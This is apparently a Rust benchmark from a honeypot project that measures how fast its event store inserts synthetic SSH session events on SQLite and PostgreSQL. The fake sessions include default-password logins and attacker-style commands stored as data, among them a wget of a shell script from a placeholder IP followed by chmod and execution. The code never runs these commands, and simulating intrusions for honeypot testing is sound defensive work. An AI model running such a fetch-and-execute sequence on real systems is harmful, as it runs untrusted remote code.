//! Store insert throughput (issue 8): how many events per second `EventStore::insert` stores
//! on SQLite and PostgreSQL, in batches as the sink's spool drain sends them. Since the
//! session summaries (migration 2), `insert` also upserts one `sessions` row per session in
//! the batch (one multi-row statement on SQLite per up to 64 sessions, one `unnest` statement
//! per batch on PostgreSQL); this tool measures that cost (build it on an older checkout for
//! the "before"; on a shared machine, run the two alternately and compare CPU time too, e.g.
//! `/usr/bin/time` with `MIRAGE_BENCH_PG` pointing nowhere for SQLite alone).
//!
//! `cargo bench --bench insert` (PostgreSQL on 127.0.0.1:5432 as user `postgres`, or
//! `MIRAGE_BENCH_PG` = `host:port`; a database of its own is created and dropped).
//! `MIRAGE_BENCH_EVENTS` changes the number of events (default 40,000).

use std::path::Path;
use std::sync::Arc;
use std::time::Instant;

use chrono::{Duration, TimeZone, Utc};
use mirage::config::DatabaseConfig;
use mirage::events::{Event, EventKind, Protocol, SessionId, SessionOrigin};
use mirage::store::{self, EventStore};

/// Events per `insert` call (one spool drain's worth).
const BATCH: usize = 500;
/// Events per session: connect, version, two failed logins, a login, four commands, close.
const PER_SESSION: usize = 10;
/// Sessions whose events interleave in the stream (open at once).
const CONCURRENT: usize = 50;
/// Rounds per backend; the best is reported.
const ROUNDS: usize = 3;

fn events(n: usize, round: usize) -> Vec<Event> {
    let sessions = n.div_ceil(PER_SESSION);
    let base = Utc.with_ymd_and_hms(2026, 1, 1, 0, 0, 0).unwrap();
    let mut per: Vec<Vec<Event>> = (0..sessions)
        .map(|s| {
            let origin = SessionOrigin {
                node: "bench".into(),
                session: SessionId(format!("r{round}s{s:07}")),
                protocol: Protocol::Ssh,
                src: format!("198.51.{}.{}:40000", (s / 250) % 250, s % 250 + 1)
                    .parse()
                    .unwrap(),
                dst: "192.0.2.1:22".parse().unwrap(),
            };
            let kinds = vec![
                EventKind::SessionConnect,
                EventKind::ClientVersion {
                    version: "SSH-2.0-Go".into(),
                },
                EventKind::LoginFailed {
                    username: "root".into(),
                    password: "123456".into(),
                },
                EventKind::LoginFailed {
                    username: "admin".into(),
                    password: "admin".into(),
                },
                EventKind::LoginSuccess {
                    username: "root".into(),
                    password: "root".into(),
                },
                EventKind::CommandInput {
                    input: "uname -a".into(),
                },
                EventKind::CommandInput {
                    input: "cat /proc/cpuinfo".into(),
                },
                EventKind::CommandInput {
                    input: "wget http://203.0.113.5/x.sh".into(),
                },
                EventKind::CommandInput {
                    input: "chmod +x x.sh; ./x.sh".into(),
                },
                EventKind::SessionClosed { duration_ms: 9000 },
            ];
            kinds
                .into_iter()
                .enumerate()
                .map(|(i, kind)| {
                    let mut e = origin.event(kind);
                    e.timestamp = base + Duration::seconds((s * 10 + i) as i64);
                    e
                })
                .collect()
        })
        .collect();
    // Interleave: CONCURRENT sessions at a time, one event of each in turn.
    let mut out = Vec::with_capacity(n);
    for group in per.chunks_mut(CONCURRENT) {
        for i in 0..PER_SESSION {
            for s in group.iter_mut() {
                if i < s.len() {
                    out.push(s[i].clone());
                }
            }
        }
    }
    out.truncate(n);
    out
}

async fn measure(name: &str, store: Arc<dyn EventStore>, n: usize) {
    store.migrate().await.expect("migrate");
    let mut best = f64::MAX;
    for round in 0..ROUNDS {
        let batch = events(n, round);
        let start = Instant::now();
        for chunk in batch.chunks(BATCH) {
            store.insert(chunk).await.expect("insert");
        }
        best = best.min(start.elapsed().as_secs_f64());
    }
    println!(
        "{name}: {n} events ({} sessions) in batches of {BATCH}: best of {ROUNDS} {:.3} s = {:.0} events/s",
        n / PER_SESSION,
        best,
        n as f64 / best
    );
}

fn open(url: String, dir: &Path) -> Arc<dyn EventStore> {
    let config = DatabaseConfig {
        url,
        ..DatabaseConfig::default()
    };
    store::open(&config, dir).expect("open store")
}

#[tokio::main]
async fn main() {
    if std::env::args().any(|a| a == "--list") {
        return;
    }
    let n: usize = std::env::var("MIRAGE_BENCH_EVENTS")
        .ok()
        .and_then(|v| v.parse().ok())
        .unwrap_or(40_000);
    let dir = tempfile::tempdir().expect("tempdir");
    measure("sqlite", open(String::new(), dir.path()), n).await;

    let addr = std::env::var("MIRAGE_BENCH_PG").unwrap_or_else(|_| "127.0.0.1:5432".into());
    let db = format!("mirage_bench_insert_{}", std::process::id());
    let admin_url = format!(
        "host={} port={} user=postgres dbname=postgres",
        host(&addr),
        port(&addr)
    );
    let Ok((admin, conn)) = tokio_postgres::connect(&admin_url, tokio_postgres::NoTls).await else {
        println!("postgres: not reachable at {addr}, skipped");
        return;
    };
    tokio::spawn(conn);
    admin
        .batch_execute(&format!("CREATE DATABASE {db}"))
        .await
        .expect("create database");
    let store = open(format!("postgres://postgres@{addr}/{db}"), dir.path());
    measure("postgres", store.clone(), n).await;
    drop(store);
    admin
        .batch_execute(&format!("DROP DATABASE {db} WITH (FORCE)"))
        .await
        .expect("drop database");
}

fn host(addr: &str) -> &str {
    addr.rsplit_once(':').map_or(addr, |(h, _)| h)
}

fn port(addr: &str) -> &str {
    addr.rsplit_once(':').map_or("5432", |(_, p)| p)
}
